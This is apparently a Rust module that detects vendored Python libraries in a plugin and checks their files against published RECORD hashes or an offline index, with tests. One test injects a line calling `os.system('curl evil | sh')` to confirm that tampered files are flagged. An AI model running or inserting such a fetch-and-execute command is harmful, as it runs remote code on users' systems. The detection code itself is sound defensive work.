//! Third-party libraries copied into a plugin. A folder is recognised by the packaging metadata
//! beside it (`*.dist-info` with its `RECORD` of file hashes, `*.egg-info`) or by its files
//! matching a published version in an offline index (`vetted vendor index`). Files that differ
//! from the published copy, or that it does not have, are listed as changed.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

/// A library found inside the package.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct VendoredLibrary {
    pub name: String,
    pub version: String,
    /// The folder holding it (input path prefix ending in `/`, or empty).
    pub path: String,
    /// Its top-level packages or modules inside `path` (`requests`, `six.py`).
    pub packages: Vec<String>,
    /// How it was recognised: `dist-info`, `egg-info` or `index`.
    pub source: String,
    /// Whether its files could be compared with the published copy (`RECORD` hashes or the
    /// index); an `egg-info` without an index entry cannot.
    pub verified: bool,
    /// Files compared and found identical.
    pub unchanged: u32,
    /// Input paths that differ from the published copy or are not part of it.
    #[serde(default)]
    pub changed_files: Vec<String>,
}

impl VendoredLibrary {
    /// Whether an input path belongs to this library.
    pub fn holds(&self, path: &str) -> bool {
        let Some(rel) = path.strip_prefix(&self.path) else {
            return false;
        };
        self.packages.iter().any(|p| {
            rel == p
                || rel
                    .strip_prefix(p.as_str())
                    .is_some_and(|r| r.starts_with('/'))
        })
    }

    pub fn unmodified(&self) -> bool {
        self.verified && self.changed_files.is_empty()
    }

    /// "library X version Y, unmodified" and its variants, for people.
    pub fn describe(&self) -> String {
        let state = if !self.verified {
            "not verified (no published file hashes)".to_string()
        } else if self.changed_files.is_empty() {
            "unmodified".to_string()
        } else {
            format!("{} file(s) changed", self.changed_files.len())
        };
        format!(
            "library {} version {} at {}, {state}",
            self.name,
            self.version,
            if self.path.is_empty() {
                "the top level"
            } else {
                self.path.as_str()
            }
        )
    }
}

/// The offline index `vetted vendor index` writes: per published package version, the SHA-256
/// of every file it installs (paths as in `site-packages`).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct VendorIndex {
    pub schema: String,
    pub packages: Vec<IndexedPackage>,
}

pub const INDEX_SCHEMA: &str = "vetted-vendor-index/1";

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct IndexedPackage {
    pub name: String,
    pub version: String,
    /// The wheel or sdist it was read from (file name only).
    pub source: String,
    /// Path as installed → SHA-256 (hex).
    pub files: BTreeMap<String, String>,
}

impl VendorIndex {
    pub fn from_json(text: &str) -> Result<VendorIndex, String> {
        let index: VendorIndex =
            serde_json::from_str(text).map_err(|e| format!("not a vendor index: {e}"))?;
        if index.schema != INDEX_SCHEMA {
            return Err(format!(
                "vendor index schema {:?}; this version reads {INDEX_SCHEMA:?}",
                index.schema
            ));
        }
        Ok(index)
    }

    fn find(&self, name: &str, version: &str) -> Option<&IndexedPackage> {
        self.packages
            .iter()
            .find(|p| same_name(&p.name, name) && p.version == version)
    }
}

/// Package names compare as PEP 503 normalises them.
fn same_name(a: &str, b: &str) -> bool {
    let norm = |s: &str| {
        s.to_ascii_lowercase()
            .replace(['-', '.'], "_")
            .trim()
            .to_string()
    };
    norm(a) == norm(b)
}

/// What the scan saw of the input that recognition needs.
#[derive(Debug, Default)]
pub struct Listing {
    /// Input path → SHA-256 (hex) of every file, or an empty string for a file recognition
    /// never compares (see [`HashScope`]).
    pub hashes: BTreeMap<String, String>,
    /// Contents of packaging metadata files (`*.dist-info/{METADATA,RECORD}`,
    /// `*.egg-info/{PKG-INFO,top_level.txt}`).
    pub metadata: BTreeMap<String, Vec<u8>>,
}

/// The files whose hash recognition can compare: every file when an index is given (a library
/// is then recognised by its files alone, anywhere); otherwise only the files beside a
/// `*.dist-info/RECORD`, the one published list a package carries. Decided from the input's
/// list of paths before any file is read, so the other files are never hashed.
#[derive(Debug, Clone)]
pub enum HashScope {
    All,
    /// Paths starting with one of these (`""` for a `RECORD` at the top).
    Under(Vec<String>),
}

impl HashScope {
    pub fn new<'a>(paths: impl IntoIterator<Item = &'a str>, index: bool) -> HashScope {
        if index {
            return HashScope::All;
        }
        let mut prefixes: Vec<String> = paths
            .into_iter()
            .filter_map(|path| {
                let (dir, file) = path.rsplit_once('/')?;
                (file == "RECORD" && dir.ends_with(".dist-info")).then(|| record_prefix(dir))
            })
            .collect();
        prefixes.sort();
        prefixes.dedup();
        HashScope::Under(prefixes)
    }

    pub fn covers(&self, path: &str) -> bool {
        match self {
            HashScope::All => true,
            HashScope::Under(prefixes) => prefixes.iter().any(|p| path.starts_with(p.as_str())),
        }
    }
}

/// The folder holding a metadata folder, as the prefix of the paths in it (`""` at the top).
fn record_prefix(dir: &str) -> String {
    match dir.rsplit_once('/') {
        Some((p, _)) => format!("{p}/"),
        None => String::new(),
    }
}

/// Whether the scan keeps the bytes of this path for recognition.
pub fn is_metadata_path(path: &str) -> bool {
    let Some((dir, file)) = path.rsplit_once('/') else {
        return false;
    };
    (dir.ends_with(".dist-info") && matches!(file, "METADATA" | "RECORD"))
        || (dir.ends_with(".egg-info") && matches!(file, "PKG-INFO" | "top_level.txt"))
}

pub fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// Recognises every library in the listing.
pub fn recognise(listing: &Listing, index: Option<&VendorIndex>) -> Vec<VendoredLibrary> {
    let mut found: Vec<VendoredLibrary> = Vec::new();
    for (path, bytes) in &listing.metadata {
        let Some((dir, file)) = path.rsplit_once('/') else {
            continue;
        };
        let prefix = record_prefix(dir);
        let text = String::from_utf8_lossy(bytes);
        if dir.ends_with(".dist-info") && file == "RECORD" {
            let meta = listing
                .metadata
                .get(&format!("{dir}/METADATA"))
                .map(|b| String::from_utf8_lossy(b).into_owned())
                .unwrap_or_default();
            let (name, version) = name_version(&meta, dir, ".dist-info");
            let published = record_hashes(&text, dir.rsplit('/').next().unwrap_or(dir));
            if let Some(lib) = compare(listing, &prefix, name, version, "dist-info", &published) {
                found.push(lib);
            }
        } else if dir.ends_with(".egg-info") && file == "PKG-INFO" {
            let (name, version) = name_version(&text, dir, ".egg-info");
            if let Some(published) = index.and_then(|i| i.find(&name, &version)) {
                if let Some(lib) = compare(
                    listing,
                    &prefix,
                    name,
                    version,
                    "egg-info",
                    &published.files,
                ) {
                    found.push(lib);
                }
                continue;
            }
            let top_level = listing
                .metadata
                .get(&format!("{dir}/top_level.txt"))
                .map(|b| String::from_utf8_lossy(b).into_owned())
                .unwrap_or_default();
            let mut packages: Vec<String> = top_level
                .lines()
                .map(str::trim)
                .filter(|l| !l.is_empty())
                .flat_map(|l| {
                    let module = format!("{l}.py");
                    let has_module = listing.hashes.contains_key(&format!("{prefix}{module}"));
                    if has_module {
                        vec![module]
                    } else {
                        vec![l.to_string()]
                    }
                })
                .collect();
            if packages.is_empty() {
                packages.push(name.replace('-', "_"));
            }
            found.push(VendoredLibrary {
                name,
                version,
                path: prefix,
                packages,
                source: "egg-info".into(),
                verified: false,
                unchanged: 0,
                changed_files: Vec::new(),
            });
        }
    }
    if let Some(index) = index {
        found.extend(match_index(listing, index, &found));
    }
    found.sort_by(|a, b| (&a.path, &a.name).cmp(&(&b.path, &b.name)));
    found
}

/// Name and version from `METADATA`/`PKG-INFO` headers, else from the folder name.
fn name_version(meta: &str, dir: &str, suffix: &str) -> (String, String) {
    let header = |key: &str| {
        meta.lines()
            .take_while(|l| !l.trim().is_empty())
            .find_map(|l| l.strip_prefix(key).map(|v| v.trim().to_string()))
    };
    let folder = dir.rsplit('/').next().unwrap_or(dir);
    let stem = folder.strip_suffix(suffix).unwrap_or(folder);
    let (fname, fversion) = stem.split_once('-').unwrap_or((stem, "?"));
    (
        header("Name:").unwrap_or_else(|| fname.to_string()),
        header("Version:").unwrap_or_else(|| fversion.split('-').next().unwrap_or("?").into()),
    )
}

/// `RECORD` rows `path,sha256=<urlsafe base64>,size` → path → hex, leaving out the
/// metadata folder itself and files installed outside `site-packages`.
fn record_hashes(record: &str, dist_info: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    for row in record.lines() {
        // Paths with commas are quoted; such files are rare enough to be treated as changed.
        let mut cols = row.rsplitn(3, ',');
        let (_size, hash, path) = (cols.next(), cols.next(), cols.next());
        let (Some(hash), Some(path)) = (hash, path) else {
            continue;
        };
        if path.starts_with("..") || path.starts_with(&format!("{dist_info}/")) {
            continue;
        }
        let Some(b64) = hash.strip_prefix("sha256=") else {
            continue;
        };
        if let Some(bytes) = urlsafe_b64(b64) {
            out.insert(path.to_string(), hex::encode(bytes));
        }
    }
    out
}

fn urlsafe_b64(text: &str) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let (mut acc, mut bits) = (0u32, 0);
    for c in text.trim_end_matches('=').bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'-' | b'+' => 62,
            b'_' | b'/' => 63,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

/// Top-level packages and modules of a published file list.
fn top_levels(published: &BTreeMap<String, String>) -> BTreeSet<String> {
    published
        .keys()
        .filter_map(|p| match p.split_once('/') {
            Some((top, _)) => Some(top.to_string()),
            None if p.ends_with(".py") => Some(p.clone()),
            None => None,
        })
        .filter(|t| !t.ends_with(".dist-info") && !t.ends_with(".egg-info") && t != "__pycache__")
        .collect()
}

/// Compares the files under `prefix` with a published list.
fn compare(
    listing: &Listing,
    prefix: &str,
    name: String,
    version: String,
    source: &str,
    published: &BTreeMap<String, String>,
) -> Option<VendoredLibrary> {
    let packages = top_levels(published);
    let mut unchanged = 0u32;
    let mut changed = Vec::new();
    for (path, hash) in listing.hashes.range(prefix.to_string()..) {
        let Some(rel) = path.strip_prefix(prefix) else {
            break;
        };
        let top = rel.split_once('/').map_or(rel, |(t, _)| t);
        if !packages.contains(top) || is_bytecode(rel) {
            continue;
        }
        match published.get(rel) {
            Some(h) if h == hash => unchanged += 1,
            _ => changed.push(path.clone()),
        }
    }
    if unchanged == 0 && changed.is_empty() {
        return None;
    }
    Some(VendoredLibrary {
        name,
        version,
        path: prefix.to_string(),
        packages: packages.into_iter().collect(),
        source: source.into(),
        verified: true,
        unchanged,
        changed_files: changed,
    })
}

fn is_bytecode(rel: &str) -> bool {
    rel.ends_with(".pyc") || rel.contains("__pycache__/")
}

/// Libraries recognised by their files alone: a top-level package of an indexed version whose
/// `__init__.py` sits somewhere in the input, with at least half of the indexed files present
/// there unchanged. The version with the most unchanged files wins.
fn match_index(
    listing: &Listing,
    index: &VendorIndex,
    already: &[VendoredLibrary],
) -> Vec<VendoredLibrary> {
    let mut best: BTreeMap<String, VendoredLibrary> = BTreeMap::new();
    for package in &index.packages {
        for top in top_levels(&package.files) {
            let marker = if top.ends_with(".py") {
                top.clone()
            } else {
                format!("{top}/__init__.py")
            };
            for path in listing.hashes.keys() {
                let Some(prefix) = path.strip_suffix(&marker) else {
                    continue;
                };
                if !(prefix.is_empty() || prefix.ends_with('/')) {
                    continue;
                }
                let covered = already
                    .iter()
                    .any(|l| l.path == prefix && l.packages.contains(&top));
                if covered {
                    continue;
                }
                let Some(lib) = compare(
                    listing,
                    prefix,
                    package.name.clone(),
                    package.version.clone(),
                    "index",
                    &package.files,
                ) else {
                    continue;
                };
                let present = lib.unchanged as usize + lib.changed_files.len();
                if lib.unchanged == 0 || (lib.unchanged as usize) * 2 < present {
                    continue;
                }
                let key = format!("{prefix}\0{}", package.name.to_ascii_lowercase());
                let better = best.get(&key).is_none_or(|b| {
                    (lib.unchanged, std::cmp::Reverse(lib.changed_files.len()))
                        > (b.unchanged, std::cmp::Reverse(b.changed_files.len()))
                });
                if better {
                    best.insert(key, lib);
                }
            }
        }
    }
    best.into_values().collect()
}

/// Reads one wheel or sdist (`.whl`, `.zip`, `.tar.gz`) into an index entry.
pub fn index_package(file_name: &str, bytes: &[u8]) -> Result<IndexedPackage, String> {
    let files = if file_name.ends_with(".tar.gz") || file_name.ends_with(".tgz") {
        read_tar_gz(bytes)?
    } else {
        read_zip(bytes)?
    };
    let wheel = file_name.ends_with(".whl");
    let (name, version, installed) = if wheel {
        let meta = files
            .iter()
            .find(|(p, _)| {
                p.split_once('/')
                    .is_some_and(|(d, f)| d.ends_with(".dist-info") && f == "METADATA")
            })
            .ok_or_else(|| format!("{file_name}: no *.dist-info/METADATA: not a wheel"))?;
        let dir = meta.0.split('/').next().unwrap_or("");
        let (name, version) = name_version(&String::from_utf8_lossy(&meta.1), dir, ".dist-info");
        let installed: BTreeMap<String, String> = files
            .iter()
            .filter(|(p, _)| {
                let top = p.split('/').next().unwrap_or("");
                !top.ends_with(".dist-info") && !top.ends_with(".data")
            })
            .map(|(p, b)| (p.clone(), sha256_hex(b)))
            .collect();
        (name, version, installed)
    } else {
        // An sdist: `name-version/` holds PKG-INFO; packages sit at its top or under `src/`.
        let root = files
            .iter()
            .find_map(|(p, _)| {
                p.strip_suffix("PKG-INFO")
                    .filter(|r| r.matches('/').count() == 1)
            })
            .ok_or_else(|| format!("{file_name}: no PKG-INFO at the top: not an sdist"))?
            .to_string();
        let pkg_info = files
            .iter()
            .find(|(p, _)| *p == format!("{root}PKG-INFO"))
            .map(|(_, b)| String::from_utf8_lossy(b).into_owned())
            .unwrap_or_default();
        let (name, version) = name_version(&pkg_info, root.trim_end_matches('/'), "");
        let mut installed = BTreeMap::new();
        let src_layout = files
            .iter()
            .any(|(p, _)| p.starts_with(&format!("{root}src/")) && p.ends_with("/__init__.py"));
        let base = if src_layout {
            format!("{root}src/")
        } else {
            root.clone()
        };
        // Only real packages: folders with an `__init__.py` at the top of the layout.
        let packages: BTreeSet<String> = files
            .iter()
            .filter_map(|(p, _)| p.strip_prefix(&base))
            .filter_map(|rel| rel.strip_suffix("/__init__.py"))
            .filter(|top| !top.contains('/') && !matches!(*top, "tests" | "test" | "docs"))
            .map(str::to_string)
            .collect();
        for (p, b) in &files {
            let Some(rel) = p.strip_prefix(&base) else {
                continue;
            };
            let top = rel.split('/').next().unwrap_or("");
            if packages.contains(top) && !is_bytecode(rel) {
                installed.insert(rel.to_string(), sha256_hex(b));
            }
        }
        (name, version, installed)
    };
    if installed.is_empty() {
        return Err(format!("{file_name}: no installable files found"));
    }
    Ok(IndexedPackage {
        name,
        version,
        source: file_name.to_string(),
        files: installed,
    })
}

/// The most any one file or the whole archive may inflate to while indexing.
const MAX_INDEXED_BYTES: u64 = 1 << 30;

fn read_zip(bytes: &[u8]) -> Result<Vec<(String, Vec<u8>)>, String> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes))
        .map_err(|e| format!("not a ZIP archive: {e}"))?;
    let mut out = Vec::new();
    let mut total = 0u64;
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).map_err(|e| format!("entry {i}: {e}"))?;
        if entry.is_dir() {
            continue;
        }
        let name = entry
            .name()
            .map_err(|e| format!("entry {i}: {e}"))?
            .to_string();
        let mut data = Vec::new();
        (&mut entry)
            .take(MAX_INDEXED_BYTES - total)
            .read_to_end(&mut data)
            .map_err(|e| format!("{name}: {e}"))?;
        total += data.len() as u64;
        if total >= MAX_INDEXED_BYTES {
            return Err("archive inflates past 1 GiB".into());
        }
        out.push((name, data));
    }
    Ok(out)
}

/// A gzip'd tar (ustar, GNU long names, pax `path`), regular files only.
fn read_tar_gz(bytes: &[u8]) -> Result<Vec<(String, Vec<u8>)>, String> {
    let mut data = Vec::new();
    flate2::read::GzDecoder::new(bytes)
        .take(MAX_INDEXED_BYTES)
        .read_to_end(&mut data)
        .map_err(|e| format!("not a gzip'd tar: {e}"))?;
    let mut out = Vec::new();
    let mut pos = 0usize;
    let mut long_name: Option<String> = None;
    while pos + 512 <= data.len() {
        let header = &data[pos..pos + 512];
        if header.iter().all(|b| *b == 0) {
            break;
        }
        let field = |a: usize, b: usize| {
            let raw = &header[a..b];
            let end = raw.iter().position(|c| *c == 0).unwrap_or(raw.len());
            String::from_utf8_lossy(&raw[..end]).into_owned()
        };
        let size_text = field(124, 136);
        let size = u64::from_str_radix(size_text.trim(), 8)
            .map_err(|_| format!("tar header at {pos}: bad size {size_text:?}"))?
            as usize;
        let kind = header[156];
        let start = pos + 512;
        let end = start
            .checked_add(size)
            .filter(|e| *e <= data.len())
            .ok_or_else(|| format!("tar entry at {pos} runs past the end"))?;
        let body = &data[start..end];
        let mut name = field(0, 100);
        let prefix = field(345, 500);
        if &header[257..262] == b"ustar" && !prefix.is_empty() {
            name = format!("{prefix}/{name}");
        }
        match kind {
            b'L' => long_name = Some(String::from_utf8_lossy(body).trim_end_matches('\0').into()),
            b'x' => {
                for rec in String::from_utf8_lossy(body).lines() {
                    if let Some((_, kv)) = rec.split_once(' ')
                        && let Some(path) = kv.strip_prefix("path=")
                    {
                        long_name = Some(path.to_string());
                    }
                }
            }
            b'0' | 0 => {
                let name = long_name.take().unwrap_or(name);
                out.push((name.trim_start_matches("./").to_string(), body.to_vec()));
            }
            _ => long_name = None,
        }
        pos = start + size.div_ceil(512) * 512;
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn listing(files: &[(&str, &[u8])]) -> Listing {
        let mut l = Listing::default();
        for (p, b) in files {
            l.hashes.insert(p.to_string(), sha256_hex(b));
            if is_metadata_path(p) {
                l.metadata.insert(p.to_string(), b.to_vec());
            }
        }
        l
    }

    fn record_line(path: &str, bytes: &[u8]) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let digest = Sha256::digest(bytes);
        let mut b64 = String::new();
        for chunk in digest.chunks(3) {
            let n =
                chunk.iter().fold(0u32, |a, b| (a << 8) | u32::from(*b)) << (8 * (3 - chunk.len()));
            for i in 0..=chunk.len() {
                b64.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            }
        }
        format!("{path},sha256={b64},{}\n", bytes.len())
    }

    #[test]
    fn a_record_proves_a_copy_unmodified_or_names_the_changes() {
        let code: &[u8] = b"exec(x)\n";
        let record = record_line("lib/__init__.py", code) + "lib-1.0.dist-info/RECORD,,\n";
        let files: Vec<(&str, &[u8])> = vec![
            ("p/ext/lib/__init__.py", code),
            (
                "p/ext/lib-1.0.dist-info/METADATA",
                b"Name: lib\nVersion: 1.0\n",
            ),
            ("p/ext/lib-1.0.dist-info/RECORD", record.as_bytes()),
        ];
        let libs = recognise(&listing(&files), None);
        assert_eq!(libs.len(), 1);
        assert!(libs[0].unmodified(), "{libs:?}");
        assert!(libs[0].holds("p/ext/lib/__init__.py"));
        assert!(!libs[0].holds("p/ext/library.py"));
        let mut files = files;
        files[0].1 = b"exec(x)\nimport os; os.system('curl evil | sh')\n";
        files.push(("p/ext/lib/extra.py", b"pass\n"));
        let libs = recognise(&listing(&files), None);
        assert_eq!(
            libs[0].changed_files,
            vec!["p/ext/lib/__init__.py", "p/ext/lib/extra.py"]
        );
    }

    /// Recognition gives the same answer when the files outside the hash scope carry no hash:
    /// a changed copy beside a RECORD, an egg-info library and loose plugin code.
    #[test]
    fn files_outside_the_hash_scope_need_no_hash() {
        let code: &[u8] = b"exec(x)\n";
        let record = record_line("lib/__init__.py", code) + "lib-1.0.dist-info/RECORD,,\n";
        let files: Vec<(&str, &[u8])> = vec![
            ("p/__init__.py", b"from .ext import lib\n"),
            ("p/main.py", b"pass\n"),
            ("p/ext/lib/__init__.py", b"exec(y)\n"),
            ("p/ext/lib/extra.py", b"pass\n"),
            (
                "p/ext/lib-1.0.dist-info/METADATA",
                b"Name: lib\nVersion: 1.0\n",
            ),
            ("p/ext/lib-1.0.dist-info/RECORD", record.as_bytes()),
            ("p/vendor/old.egg-info/PKG-INFO", b"Name: old\nVersion: 2\n"),
            ("p/vendor/old.egg-info/top_level.txt", b"old\n"),
            ("p/vendor/old.py", b"pass\n"),
        ];
        let full = listing(&files);
        let scope = HashScope::new(files.iter().map(|(p, _)| *p), false);
        let mut partial = listing(&files);
        let mut blank = 0;
        for (path, hash) in partial.hashes.iter_mut() {
            if !scope.covers(path) {
                hash.clear();
                blank += 1;
            }
        }
        assert_eq!(blank, 5, "{scope:?}");
        let (a, b) = (recognise(&full, None), recognise(&partial, None));
        assert_eq!(format!("{a:?}"), format!("{b:?}"));
        assert_eq!(a.len(), 2, "{a:?}");
        assert_eq!(
            a[0].changed_files,
            vec!["p/ext/lib/__init__.py", "p/ext/lib/extra.py"]
        );
        assert!(HashScope::new(files.iter().map(|(p, _)| *p), true).covers("p/main.py"));
        assert!(HashScope::new(["x-1.dist-info/RECORD"], false).covers("anything.py"));
    }

    #[test]
    fn sdist_tar_members_are_read() {
        // One ustar member `pkg-1.0/PKG-INFO`.
        let body = b"Name: pkg\nVersion: 1.0\n";
        let mut header = [0u8; 512];
        header[..16].copy_from_slice(b"pkg-1.0/PKG-INFO");
        let size = format!("{:011o}\0", body.len());
        header[124..136].copy_from_slice(size.as_bytes());
        header[156] = b'0';
        let mut tar = header.to_vec();
        tar.extend_from_slice(body);
        tar.resize(1024 + 1024, 0);
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        std::io::Write::write_all(&mut gz, &tar).expect("in memory");
        let bytes = gz.finish().expect("in memory");
        let files = read_tar_gz(&bytes).expect("reads");
        assert_eq!(files, vec![("pkg-1.0/PKG-INFO".to_string(), body.to_vec())]);
        assert!(read_tar_gz(b"not gzip").is_err());
    }
}
